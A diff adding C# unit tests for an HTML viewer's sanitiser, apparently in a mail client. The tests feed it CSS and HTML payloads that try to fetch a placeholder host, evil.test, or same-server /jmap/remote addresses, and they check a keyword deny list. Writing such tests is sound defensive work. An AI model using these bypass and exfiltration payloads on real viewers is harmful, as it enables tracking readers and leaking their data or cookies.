@@ -78,6 +78,17 @@ public sealed partial class HtmlViewerTests
     [InlineData("<style>input[value^=a]{background:url(https://evil.test/a)}</style>a")]
     [InlineData("<style>:root{--x:url(https://evil.test/a)}p{background:var(--x)}</style><p>a")]
     [InlineData("<img src=https://evil.test/pixel.gif width=1 height=1>")]
+    [InlineData("<style>.r{border:5px solid;border-image:url(https://evil.test/a) 3}</style><p class=r>a")]
+    [InlineData("<style>.r{border-image-source:url(//evil.test/a)}</style><p class=r>a")]
+    [InlineData("<style>.r{mask:url(https://evil.test/a);-webkit-mask-image:url(https://evil.test/a)}</style><p class=r>a")]
+    [InlineData("<style>.r::before{content:url(https://evil.test/a)}</style><p class=r>a")]
+    [InlineData("<style>.r{filter:url(https://evil.test/a#f);clip-path:url(https://evil.test/a)}</style><p class=r>a")]
+    [InlineData("<style>.r{list-style:square url(https://evil.test/a);cursor:url(https://evil.test/c),auto}</style><p class=r>a")]
+    [InlineData("<style>.r{shape-outside:url(https://evil.test/a);offset-path:url(https://evil.test/a);background:URL( https://evil.test/a )}</style><p class=r>a")]
+    [InlineData("<style>.r{background:u\\72l(https://evil.test/a)}</style><p class=r>a")]
+    [InlineData("<style>.r{--a:url(https://evil.test/a);border-image:var(--a) 3}</style><p class=r>a")]
+    [InlineData("<style>@media screen{.r{border-image:url(https://evil.test/a) 3}}</style><p class=r>a")]
+    [InlineData("<style>@layer x{.r{background:url(https://evil.test/a)}} @container (width>1px){.r{background:url(https://evil.test/b)}}</style><p class=r>a")]
     [InlineData("<p id=\"a\" style=\"cursor:url(https://evil.test/c),auto\">a")]
     [InlineData("<svg><image href=https://evil.test/i /><use href=https://evil.test/u /></svg>a")]
     public void What_acts_or_fetches_goes(string html)
@@ -87,6 +98,22 @@ public sealed partial class HtmlViewerTests
         string markup = Titles().Replace(Markup(document), "");
         foreach (string word in new[] { "script", "evil.test", "onerror", "onload", "onfocus", "javascript", "iframe", "srcdoc", "svg", "@import", "expression", "http-equiv", "srcset", "ping" })
             Assert.DoesNotContain(word, markup, StringComparison.OrdinalIgnoreCase);
+    }
+
+    // An address of this server would be asked with the reader's cookie.
+    [Theory]
+    [InlineData("<style>.r{border-image:url(/jmap/remote/A1?url=x) 3}</style>")]
+    [InlineData("<style>.r{border-image-source:url(/jmap/remote/A1?url=x)}</style>")]
+    [InlineData("<style>.r{background:url(/jmap/remote/A1?url=x)}</style>")]
+    [InlineData("<style>.r::after{content:url(/jmap/remote/A1?url=x)}</style>")]
+    [InlineData("<p style='border-image:url(/jmap/remote/A1?url=x) 3'>")]
+    [InlineData("<p style='background:url(jmap/remote/A1?url=x)'>")]
+    [InlineData("<img src=/jmap/remote/A1?url=x>")]
+    [InlineData("<table background=/jmap/remote/A1?url=x><tr><td>")]
+    public void Addresses_of_this_server_go(string html)
+    {
+        foreach (bool images in new[] { false, true })
+            Assert.DoesNotContain("jmap/remote", View(html + "<p class=r>x", new HtmlViewRequest { Remote = images ? static uri => "/proved?" + Uri.EscapeDataString(uri.AbsoluteUri) : null }).Document, StringComparison.Ordinal);
     }
 
     [Fact]
